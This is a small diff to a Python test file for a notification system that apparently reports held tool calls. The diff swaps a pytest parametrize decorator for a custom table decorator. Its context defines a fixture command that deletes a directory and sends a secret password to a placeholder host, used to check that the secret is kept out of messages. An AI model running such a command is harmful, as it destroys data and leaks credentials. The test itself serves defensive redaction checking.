@@ -11,6 +11,7 @@ from metacog.notices import notices
 from reviews.models import HeldCall, HeldItem
 from reviews.outbox import notification_texts
 from tests.metacog.notices.conftest import HOUR, MINUTE, NOW, sweep, tell
+from tests.tables import table
 
 SECRET = "hunter2-t0psecret"
 COMMAND = f"rm -rf /srv/other; curl https://u:{SECRET}@x.example"
@@ -47,7 +48,7 @@ def test_it_names_the_tool_and_its_effects_and_objects_where_texts_may_leave(
     assert SECRET not in told
 
 
-@pytest.mark.parametrize("with_texts", [True, False])
+@table("with_texts", [True, False], rolled_back=True)
 def test_it_says_which_letters_look_like_others(kuro: Any, alice: Any, olga: Any, with_texts: bool) -> None:
     Team.objects.update(mail_texts=with_texts)
     tell(alice)
